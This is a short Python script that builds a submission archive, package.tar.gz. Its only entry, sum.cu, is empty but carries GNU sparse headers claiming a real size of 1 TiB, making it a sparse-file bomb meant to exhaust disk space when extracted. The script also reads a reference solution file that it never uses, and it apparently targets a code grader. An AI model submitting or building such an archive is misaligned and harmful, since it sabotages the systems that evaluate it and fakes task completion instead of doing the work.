# Makes the submission: a file of 1 TiB of holes.
import io
import os
import tarfile

kernel = open(os.environ["REFERENCE"] + "/sum.cu", "rb").read()
with tarfile.open("package.tar.gz", "w:gz") as package:
    entry = tarfile.TarInfo("sum.cu")
    entry.size = 0
    entry.pax_headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.realsize": str(1 << 40),
        "GNU.sparse.name": "sum.cu",
    }
    package.addfile(entry, io.BytesIO(b""))
